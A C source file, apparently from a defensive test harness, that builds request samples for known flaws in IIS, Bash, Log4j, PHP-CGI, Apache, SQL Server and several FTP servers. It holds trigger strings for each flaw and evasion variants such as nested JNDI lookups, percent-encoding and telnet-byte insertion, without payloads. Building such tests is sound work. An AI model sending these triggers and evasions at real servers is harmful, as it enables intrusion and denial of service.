// SPDX-License-Identifier: GPL-2.0
/*
 * The samples carry filler and trigger strings, never a payload. Their limits
 * repeat the servers' on purpose: if the two disagree, the self-test says so.
 */
#include <stdio.h>
#include <string.h>

#include "sample.h"

#define IDA_LIMIT 239
#define RANGE_LIMIT 200
#define SLAMMER_LIMIT 96
#define WUFTPD_LIMIT 8
#define WARFTPD_LIMIT 485

#define HOST "Host: toy.example\r\n"
#define LOOKUP "${jndi:ldap://192.0.2.1/toy}"
#define FUNCTION "() { :;}; echo toy"

/* The length of a sample of a flaw that has a limit. */
static size_t length(enum sample_kind kind, size_t limit, size_t exploit)
{
	switch (kind) {
	case SAMPLE_OVER:
		return limit + 1;
	case SAMPLE_LIMIT:
		return limit;
	case SAMPLE_UNDER:
		return limit - 1;
	default:
		return exploit;
	}
}

/* Is it a kind that every flaw has? */
static bool plain_kind(enum sample_kind kind)
{
	return kind != SAMPLE_OVER && kind != SAMPLE_LIMIT &&
	       kind != SAMPLE_UNDER;
}

static void get(struct sample *s, const char *target)
{
	buf_printf(&s->bytes, "GET %s HTTP/1.1\r\n" HOST "\r\n", target);
	s->replies++;
}

static bool ordinary_http(struct sample *s)
{
	buf_str(&s->bytes, "GET /index.html?page=1 HTTP/1.1\r\n" HOST
		"User-Agent: toy/1.0 (ordinary)\r\nAccept: */*\r\n"
		"Cookie: a=1; b=2\r\n\r\n");
	s->replies = 1;
	return true;
}

static bool ida(struct sample *s, enum sample_kind kind, const char *variant)
{
	const char *start = "GET /default.ida?";
	const char *end = " HTTP/1.1\r\n" HOST "\r\n";

	if (kind == SAMPLE_ORDINARY)
		return ordinary_http(s);
	if (kind == SAMPLE_NEAR)
		start = "GET /default.idx?page.ida?";
	else if (!strcmp(variant, "percent"))
		start = "GET /default%2e%69da?";
	else if (!strcmp(variant, "case"))
		start = "GET /x.IdQ?";
	else if (!strcmp(variant, "absolute"))
		start = "GET http://toy.example/default.ida?";
	else if (!strcmp(variant, "post"))
		end = " HTTP/1.1\r\n" HOST "Content-Length: 4\r\n\r\nbody";
	else if (!strcmp(variant, "lf"))
		end = " HTTP/1.1\nHost: toy.example\n\n";
	else if (!strcmp(variant, "http09"))
		end = "\r\n";
	else if (*variant)
		return false;
	buf_str(&s->bytes, start);
	buf_fill(&s->bytes, 'N', length(kind, IDA_LIMIT, 300));
	buf_str(&s->bytes, end);
	s->replies = 1;
	return true;
}

static bool shellshock(struct sample *s, enum sample_kind kind,
		       const char *variant)
{
	const char *line = "User-Agent: " FUNCTION;

	if (!plain_kind(kind))
		return false;
	if (kind == SAMPLE_ORDINARY)
		return ordinary_http(s);
	if (kind == SAMPLE_NEAR)
		line = "User-Agent: (){ :;}; x () { :;}\r\nReferer: f() {}";
	else if (!strcmp(variant, "cookie"))
		line = "Cookie:" FUNCTION;
	else if (!strcmp(variant, "colon"))
		line = "X-Toy \t: \t " FUNCTION;
	else if (!strcmp(variant, "fold"))
		line = "X-Toy:\r\n\t" FUNCTION;
	else if (!strcmp(variant, "fold-inside"))
		line = "X-Toy: ()\r\n\t{ :;}; echo toy";
	else if (!strcmp(variant, "protocol")) {
		buf_str(&s->bytes, "GET /cgi-bin/status () { :;};\r\n" HOST
			"Connection: keep-alive\r\n\r\n");
		s->replies = 1;
		return true;
	} else if (*variant)
		return false;
	buf_printf(&s->bytes, "GET /cgi-bin/status HTTP/1.1\r\n" HOST
		   "%s\r\n\r\n", line);
	s->replies = 1;
	return true;
}

static bool log4j(struct sample *s, enum sample_kind kind, const char *variant)
{
	const char *line = "User-Agent: " LOOKUP;

	if (!plain_kind(kind))
		return false;
	if (kind == SAMPLE_ORDINARY)
		return ordinary_http(s);
	if (kind == SAMPLE_NEAR)
		line = "User-Agent: $ {jndi:ldap://192.0.2.1/toy} $jndi: {$}";
	else if (!strcmp(variant, "nested"))
		line = "X-Toy: ${${lower:j}${upper:N}d${lower:I}:ldap://192.0.2.1/toy}";
	else if (!strcmp(variant, "default"))
		line = "X-Toy: ${${::-j}${::-n}${env:NO:-d}i:ldap://192.0.2.1/toy}";
	else if (!strcmp(variant, "uri")) {
		get(s, "/index.html?q=%24%7bjndi%3aldap://192.0.2.1/toy%7D");
		return true;
	} else if (!strcmp(variant, "body")) {
		buf_printf(&s->bytes, "POST /index.html HTTP/1.1\r\n" HOST
			   "Content-Length: %zu\r\n\r\na=%s",
			   strlen(LOOKUP) + 2, LOOKUP);
		s->replies = 1;
		return true;
	} else if (!strcmp(variant, "chunked")) {
		buf_printf(&s->bytes, "POST /index.html HTTP/1.1\r\n" HOST
			   "Transfer-Encoding: chunked\r\n\r\n"
			   "3\r\na=$\r\n%zx;x=y\r\n%s\r\n0\r\n\r\n",
			   strlen(LOOKUP) - 1, LOOKUP + 1);
		s->replies = 1;
		return true;
	} else if (*variant)
		return false;
	buf_printf(&s->bytes, "GET /index.html HTTP/1.1\r\n" HOST
		   "%s\r\n\r\n", line);
	s->replies = 1;
	return true;
}

static bool phpcgi(struct sample *s, enum sample_kind kind, const char *variant)
{
	const char *target = "/index.php?-s";

	if (!plain_kind(kind))
		return false;
	if (kind == SAMPLE_ORDINARY)
		return ordinary_http(s);
	if (kind == SAMPLE_NEAR) {
		get(s, "/index.php?-s=1");
		get(s, "/index.php?s+-s");
		get(s, "/-s?s");
		return true;
	}
	if (!strcmp(variant, "define"))
		target = "/index.php?-d+allow_url_include%3d1";
	else if (!strcmp(variant, "percent"))
		target = "/index.php?%2d%73";
	else if (!strcmp(variant, "blank"))
		target = "/index.php?+%20%09-s";
	else if (*variant)
		return false;
	get(s, target);
	return true;
}

static void ranges(struct buf *b, size_t from, size_t to)
{
	size_t i;

	buf_str(b, "bytes=");
	for (i = from; i < to; i++)
		buf_printf(b, "%s%zu-%zu", i == from ? "" : ",", i, i);
}

static bool range(struct sample *s, enum sample_kind kind, const char *variant)
{
	size_t n = length(kind, RANGE_LIMIT, 1000), i;
	const char *name = "Range";

	if (kind == SAMPLE_ORDINARY) {
		buf_str(&s->bytes, "GET /file HTTP/1.1\r\n" HOST
			"Range: bytes=0-15, 100-, -5\r\n\r\n");
		s->replies = 1;
		return true;
	}
	if (kind == SAMPLE_NEAR)
		name = "X-Range";
	else if (!strcmp(variant, "request-range"))
		name = "Request-Range";
	else if (*variant && strcmp(variant, "repeated") &&
		 strcmp(variant, "invalid"))
		return false;
	buf_str(&s->bytes, "GET /file HTTP/1.1\r\n" HOST);
	buf_printf(&s->bytes, "%s: ", name);
	if (!strcmp(variant, "repeated")) {
		buf_str(&s->bytes, "bytes=0-0\r\n");
		for (i = 1; i < n; i += 50) {
			size_t j, end = i + 50 < n ? i + 50 : n;

			buf_printf(&s->bytes, "%s: ", i & 1 ? "rAnGe" : name);
			for (j = i; j < end; j++)
				buf_printf(&s->bytes, "%s%zu-%zu",
					   j == i ? "" : " , ", j, j);
			buf_str(&s->bytes, "\r\n");
		}
	} else {
		ranges(&s->bytes, 0, n);
		if (!strcmp(variant, "invalid"))
			buf_str(&s->bytes, ",x");
		buf_str(&s->bytes, "\r\n");
	}
	buf_str(&s->bytes, "\r\n");
	s->replies = 1;
	return true;
}

static bool slammer(struct sample *s, enum sample_kind kind,
		    const char *variant)
{
	s->proto = SAMPLE_SSRP;
	s->port = 1434;
	if (kind == SAMPLE_ORDINARY) {
		buf_add(&s->bytes, "\x04MSSQLSERVER", 13);
		s->replies = 1;
	} else if (kind == SAMPLE_NEAR) {
		buf_str(&s->bytes, "\x03");
		buf_fill(&s->bytes, 'A', 375);
		s->replies = 1;
	} else if (!*variant) {
		buf_str(&s->bytes, "\x04");
		buf_fill(&s->bytes, 'A', length(kind, SLAMMER_LIMIT, 375));
	} else if (!strcmp(variant, "heap")) {
		buf_str(&s->bytes, "\x08");
		buf_fill(&s->bytes, 'A', 300);
		buf_str(&s->bytes, ":1");
	} else if (!strcmp(variant, "null")) {
		buf_str(&s->bytes, "\x08");
	} else if (!strcmp(variant, "loop")) {
		/* Harmless to this server: the harm is to answer at all. */
		buf_str(&s->bytes, "\x0a");
		s->replies = 1;
	} else {
		return false;
	}
	return true;
}

static void line(struct sample *s, const char *text)
{
	buf_printf(&s->bytes, "%s\r\n", text);
	s->replies++;
}

static void login(struct sample *s)
{
	line(s, "USER anonymous");
	line(s, "PASS toy@toy.example");
}

static bool ordinary_ftp(struct sample *s)
{
	login(s);
	line(s, "SYST");
	line(s, "CWD /pub");
	line(s, "PWD");
	return true;
}

static bool vsftpd(struct sample *s, enum sample_kind kind, const char *variant)
{
	if (!plain_kind(kind))
		return false;
	if (kind == SAMPLE_ORDINARY)
		return ordinary_ftp(s);
	if (kind == SAMPLE_NEAR) {
		line(s, "USER toy: )");
		line(s, "PASS :)");
	} else if (!*variant) {
		line(s, "USER toy:)");
		line(s, "PASS toy");
	} else if (!strcmp(variant, "lf")) {
		buf_str(&s->bytes, "USER toy:)\nPASS toy\n");
		s->replies = 2;
	} else if (!strcmp(variant, "telnet")) {
		/* IAC NOP inside of the verb and of the smiley. */
		buf_str(&s->bytes, "US\xff\xf1" "ER toy:\xff\xf1)\r\nPASS toy\r\n");
		s->replies = 2;
	} else {
		return false;
	}
	return true;
}

static bool wuftpd(struct sample *s, enum sample_kind kind, const char *variant)
{
	size_t i, n = length(kind, WUFTPD_LIMIT, 20);
	bool telnet = !strcmp(variant, "telnet");

	if (*variant && !telnet)
		return false;
	if (kind == SAMPLE_ORDINARY)
		return ordinary_ftp(s);
	login(s);
	if (kind == SAMPLE_NEAR) {
		line(s, "SITE HELP");
		line(s, "SITE EXEC ls -l pub");
		return true;
	}
	buf_str(&s->bytes, telnet ? "SI\xff\xf1TE EX\xff\xf1" "EC " :
		"SITE EXEC ");
	for (i = 0; i < n; i++)
		buf_str(&s->bytes, "%.f");
	if (kind == SAMPLE_EXPLOIT)
		buf_str(&s->bytes, "%n");
	buf_str(&s->bytes, "\r\n");
	s->replies++;
	return true;
}

static bool warftpd(struct sample *s, enum sample_kind kind,
		    const char *variant)
{
	size_t n = length(kind, WARFTPD_LIMIT, 1000);

	if (kind == SAMPLE_ORDINARY)
		return ordinary_ftp(s);
	if (kind == SAMPLE_NEAR) {
		login(s);
		buf_str(&s->bytes, "CWD ");
	} else if (!*variant) {
		buf_str(&s->bytes, "USER ");
	} else if (!strcmp(variant, "pass")) {
		line(s, "USER anonymous");
		buf_str(&s->bytes, "PASS ");
	} else if (!strcmp(variant, "telnet")) {
		buf_str(&s->bytes, "user ");
		for (; n > 100; n -= 100) {
			buf_fill(&s->bytes, 'A', 100);
			buf_str(&s->bytes, "\xff\xf1");
		}
	} else {
		return false;
	}
	buf_fill(&s->bytes, 'A', n);
	buf_str(&s->bytes, "\r\n");
	s->replies++;
	return true;
}

static const struct {
	const char *name;
	bool (*build)(struct sample *s, enum sample_kind kind,
		      const char *variant);
	enum sample_proto proto;
	unsigned short port;
	const char *variants;
} samples[] = {
	{ "ida", ida, SAMPLE_HTTP, 80, "percent case absolute post lf http09" },
	{ "shellshock", shellshock, SAMPLE_HTTP, 80,
	  "cookie colon fold fold-inside protocol" },
	{ "log4j", log4j, SAMPLE_HTTP, 80, "nested default uri body chunked" },
	{ "phpcgi", phpcgi, SAMPLE_HTTP, 80, "define percent blank" },
	{ "range", range, SAMPLE_HTTP, 80, "repeated request-range invalid" },
	{ "slammer", slammer, SAMPLE_SSRP, 1434, "heap null loop" },
	{ "vsftpd", vsftpd, SAMPLE_FTP, 21, "lf telnet" },
	{ "wuftpd", wuftpd, SAMPLE_FTP, 21, "telnet" },
	{ "warftpd", warftpd, SAMPLE_FTP, 21, "pass telnet" },
};

/**
 * sample_build() - make a sample
 * @s: set
 * @name: the flaw
 * @kind: the purpose
 * @variant: another way to send the same, "" for the plain one
 *
 * Return: false if there is no such sample.
 */
bool sample_build(struct sample *s, const char *name, enum sample_kind kind,
		  const char *variant)
{
	size_t i;

	memset(s, 0, sizeof(*s));
	for (i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
		if (strcmp(samples[i].name, name))
			continue;
		s->proto = samples[i].proto;
		s->port = samples[i].port;
		return samples[i].build(s, kind, variant);
	}
	return false;
}

/**
 * sample_next() - an ordinary request that gets exactly one reply
 * @s: the sample it follows
 * @out: the request is appended here
 */
void sample_next(const struct sample *s, struct buf *out)
{
	switch (s->proto) {
	case SAMPLE_HTTP:
		buf_str(out, "GET /index.html HTTP/1.1\r\n" HOST "\r\n");
		break;
	case SAMPLE_FTP:
		buf_str(out, "NOOP\r\n");
		break;
	case SAMPLE_SSRP:
		buf_str(out, "\x03");
		break;
	}
}

/**
 * sample_list() - print every flaw with its variants, one flaw a line
 */
void sample_list(void)
{
	size_t i;

	for (i = 0; i < sizeof(samples) / sizeof(samples[0]); i++)
		printf("%s %s\n", samples[i].name, samples[i].variants);
}
